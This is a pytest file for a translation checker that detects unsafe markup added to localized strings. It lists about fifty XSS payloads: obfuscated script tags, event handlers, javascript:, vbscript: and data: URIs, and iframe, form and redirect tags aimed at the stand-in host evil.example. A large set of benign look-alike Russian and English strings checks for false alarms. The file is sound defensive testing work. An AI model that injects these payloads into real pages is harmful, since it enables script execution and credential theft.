"""Harmful markup in translations: what brings a program into a page is found, what only speaks of it is not."""

from __future__ import annotations

import pytest
from tests.checks.check_support import make_pair

from localize.checks import run_pair

HARMFUL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "< script >alert(1)</ script>",
    "<scr\u200bipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;script&#x3e;alert(1)",
    "&#x3C;SCRIPT&#x3E;",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<iframe src=//evil.example></iframe>",
    "<IFRAME SRC='https://evil.example'>",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<math href=javascript:alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    "<b onmouseover=alert(1)>Текст</b>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"#\" onclick=\"steal()\">Текст</a>",
    "Текст\" onclick=\"alert(1)",
    "<a href=\"javascript:alert(1)\">Текст</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">Текст</a>",
    "<a href=\"java\tscript:alert(1)\">Текст</a>",
    "<a href=\" &#14; javascript:alert(1)\">Текст</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">Текст</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Текст</a>",
    "<a href=\"javascript&colon;alert(1)\">Текст</a>",
    "<a href=\"%6Aavascript:alert(1)\">Текст</a>",
    "[Текст](javascript:alert(1))",
    "[Текст]( JAVASCRIPT:alert(1))",
    "javascript:void(0)",
    "javascript://%0aalert(1)",
    "<a href=vbscript:msgbox(1)>Текст</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>Текст</a>",
    "data:text/html,<script>alert(1)</script>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<div style=\"background:url(javascript:alert(1))\">Текст</div>",
]  # fmt: skip

_NAMES = ["файл", "сообщение", "ссылка", "окно", "страница", "форма", "объект", "сценарий", "кнопка", "рамка"]
HARMLESS = [
    "on = off",
    "Notify on <b>",
    "<b>on</b>=включено",
    "Включить (on=1), выключить (on=0)",
    "JavaScript: как его отключить",
    "JavaScript:включите его в настройках",
    "Язык JavaScript; язык VBScript: оба старые",
    "Данные: текст или HTML",
    "data: 12 мая",
    "Тип text/html: страница",
    "<форма>",
    "<объект> и <ссылка>",
    "Откройте <файл> в <каталог>",
    "a < script",
    "Если a < form и b < object",
    "5 < 6, формула: x=on",
    "Сайт online=да",
    "once = однажды",
    "one=1, two=2",
    "only=все",
    "Параметр only=true",
    "Скидка 100%де",
    "50%33",
    "C:\\users\\xavier",
    "R&D; AT&T",
    "&nbsp;&mdash;&laquo;",
    "<p>Текст</p><br/><strong>Важно</strong>",
    "<a href=\"https://example.org/?on=1&x=2\">Текст</a>",
    "<a title=\"Про javascript\" href=\"/x\">Текст</a>",
    "Description: сценарий",
    "postscript: печать",
    "transcript: запись разговора",
    "Сценарий (script): его имя",
    "version=1.2, region=kz",
    "action=open, position=left",
    "<span lang=\"ru\" class=\"button\">Текст</span>",
    "<em data-on=\"yes\">Текст</em>",
    "mailto:help@example.org?subject=on",
    "metadata:text",
    "condition='yes'",
    *(f"{name.capitalize()} {{name}}: on = %s" for name in _NAMES),
    *(f"<b>{name}</b> — это не script" for name in _NAMES),
    *(f"Что такое {name}? Button = {name}" for name in _NAMES),
    *(f"{name}=«on», <i>{name}</i>" for name in _NAMES),
    *(f"Здесь {name} form; <u>{name}</u> object" for name in _NAMES),
    *(f"{name}: input, style, base, link <code>{name}</code>" for name in _NAMES),
]  # fmt: skip


def _unsafe(source: str, target: str) -> list[str]:
    pair = make_pair(source, target, ("en", "ru"))
    return [each.surface for each in run_pair(pair, severities={}) if each.check == "markup.unsafe"]


@pytest.mark.parametrize("text", HARMFUL)
def test_programs_in_a_translation_are_found(text: str) -> None:
    """However it is spelt, what the source has not and a browser would run is named, also amid a sentence."""
    assert _unsafe("Text", text)
    assert _unsafe("Some text here", f"Здесь текст {text} и ещё")


@pytest.mark.parametrize("text", HARMFUL)
def test_programs_of_the_source_are_let_pass(text: str) -> None:
    """What the source has as well is the author's, not the translator's."""
    assert _unsafe(f"Text {text}", f"Слово {text}") == []


def test_texts_that_only_speak_of_programs_are_let_pass() -> None:
    """A hundred texts with the same words and signs have nothing that a browser would run."""
    assert len(HARMLESS) >= 100
    assert [text for text in HARMLESS if _unsafe("Text", text)] == []
